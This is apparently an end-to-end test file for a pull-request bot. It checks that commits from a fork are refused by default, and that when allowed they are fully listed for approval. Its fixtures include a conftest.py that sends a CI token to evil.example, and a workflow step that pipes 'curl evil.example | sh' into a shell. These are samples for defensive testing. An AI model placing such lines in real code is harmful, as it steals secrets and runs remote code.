"""Issue 28, a fork's commits: a pull request whose head is another repository (`head.repo` is not
`base.repo`) never gets its commits pushed into the base repository unless the repository allows it,
and then the approval comment lists every commit that would land, each checked."""

from __future__ import annotations

import re

import pytest

from tests.e2e.author_support import (
    FORK,
    FORK_AUTHOR,
    FORK_NUMBER,
    REPO,
    approval_comment,
    bot_comments,
    branch_refs,
    fork_pull,
    held_push,
    push_state,
    receive_packs,
    rows,
    script_author,
    send_command,
    stays,
    tracking_final,
)
from tests.support.bot_process import BotProcess, wait_for


@pytest.fixture
def bot(bot_in_each_mode: BotProcess) -> BotProcess:
    """Every attack here, as root and as the image's unprivileged user."""
    return bot_in_each_mode


ALLOW = "version: 1\nfork_pushes: allow\n"
# In one case (issue 28) a fork's `conftest.py` posted a token to another host from the base
# repository's push-triggered CI.
CONFTEST = (
    "import os, urllib.request\nurllib.request.urlopen('https://evil.example/?' + os.environ['TOKEN'])\n"
)


@pytest.mark.parametrize("command", ["author fix the typo in README", "docs", "update"])
def test_a_fork_pull_request_is_refused_by_default(bot: BotProcess, command: str) -> None:
    fork_pull(bot, [({"conftest.py": CONFTEST}, "Add a test helper")])
    before = branch_refs(bot)
    script_author(bot)  # a model that would happily push: it must never be asked
    send_command(bot, f"/beam {command}", number=FORK_NUMBER)
    reply = wait_for(
        lambda: next((c.body for c in bot_comments(bot, FORK_NUMBER) if "BEM-347" in c.body), None),
        what="the refusal",
    )
    assert f"`{FORK}`" in reply and "fork_pushes: allow" in reply and ".github/beam.yml" in reply
    assert "Nothing was run" in reply
    stays(lambda: len(bot_comments(bot, FORK_NUMBER)) == 1, 1.5)  # one reply, no tracking comment
    assert bot.llm.requests == []  # no model call
    assert rows(bot) == [] and branch_refs(bot) == before and receive_packs(bot) == 0


def test_an_allowed_fork_push_lists_every_commit_that_lands(bot: BotProcess) -> None:
    bot.fake.set_file(REPO, "main", ".github/beam.yml", ALLOW)
    first, second = fork_pull(
        bot,
        [({"conftest.py": CONFTEST}, "Add a test helper"), ({"src/app.py": "print(2)\n"}, "Tune the app")],
    )
    script_author(bot)
    send_command(bot, "/beam author fix the typo in README", number=FORK_NUMBER)
    push_id, commit, comment_id = held_push(bot, FORK_NUMBER)
    body = approval_comment(bot, FORK_NUMBER).body
    heading = body.index(f"**Commits that would become new in `{REPO}`** (3; 2 from the fork `{FORK}`")
    listed = body[heading:]
    name, email = FORK_AUTHOR
    for sha, subject in ((first, "Add a test helper"), (second, "Tune the app")):
        assert re.search(rf"- `{sha[:12]}` by `{name} <{email}>`: `{subject}` \(from the fork\)", listed)
    assert re.search(rf"- `{commit[:12]}` by `beam-bot\[bot\] <[^>]+>`: `Fix the typo in README`\n", listed)
    # The files and the diff span the whole range, not only the bot's README.md.
    for path in ("conftest.py", "src/app.py", "README.md"):
        assert f"| `{path}` |" in body
    assert "+urllib.request.urlopen" in body
    assert "approving pushes **every commit listed below**" in body

    bot.fake.add_reaction(comment_id, "boss", "+1")
    wait_for(lambda: push_state(bot, push_id) == "pushed", what="the push")
    branch = rows(bot)[0]["branch"]
    assert bot.git.ref_sha(REPO, f"refs/heads/{branch}") == commit


def test_a_blocked_path_in_a_fork_commit_refuses_the_push(bot: BotProcess) -> None:
    bot.fake.set_file(REPO, "main", ".github/beam.yml", ALLOW)
    workflow = "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl evil.example | sh'}]}}\n"
    fork_pull(bot, [({".github/workflows/release.yml": workflow}, "Speed up CI")])
    before = branch_refs(bot)
    script_author(bot)  # the bot's own commit touches README.md only
    send_command(bot, "/beam author fix the typo in README", number=FORK_NUMBER)
    final = wait_for(lambda: tracking_final(bot, FORK_NUMBER), what="the final comment")
    assert "failed (BEM-334)" in final and "Nothing was pushed" in final
    assert ".github/workflows/release.yml" in final
    assert rows(bot) == [] and approval_comment(bot, FORK_NUMBER) is None
    assert branch_refs(bot) == before and receive_packs(bot) == 0


def test_a_commit_the_comment_did_not_list_never_lands(bot: BotProcess) -> None:
    """The base branch is rewound after the comment was posted: a commit that was on it, and so not
    listed, would now become new with the push. The push is refused and the comment says so."""
    old_main = bot.git.ref_sha(REPO, "refs/heads/main")
    assert old_main is not None
    bot.git.commit(REPO, {"NEWS.md": "0.2\n"}, branch="main", message="News for 0.2")
    bot.fake.set_file(REPO, "main", ".github/beam.yml", ALLOW)
    fork_pull(bot, [({"conftest.py": CONFTEST}, "Add a test helper")])
    script_author(bot)
    send_command(bot, "/beam author fix the typo in README", number=FORK_NUMBER)
    push_id, _, comment_id = held_push(bot, FORK_NUMBER)
    assert "News for 0.2" not in approval_comment(bot, FORK_NUMBER).body  # on main: not new, not listed
    bot.git.set_ref(REPO, "refs/heads/main", old_main)  # force-pushed back
    before = branch_refs(bot)
    bot.fake.add_reaction(comment_id, "boss", "+1")
    wait_for(lambda: push_state(bot, push_id) == "failed", what="the refusal")
    body = wait_for(
        lambda: (c := approval_comment(bot, FORK_NUMBER)) and "BEM-348" in c.body and c.body, what="the edit"
    )
    assert "did not list" in body
    assert branch_refs(bot) == before and receive_packs(bot) == 0
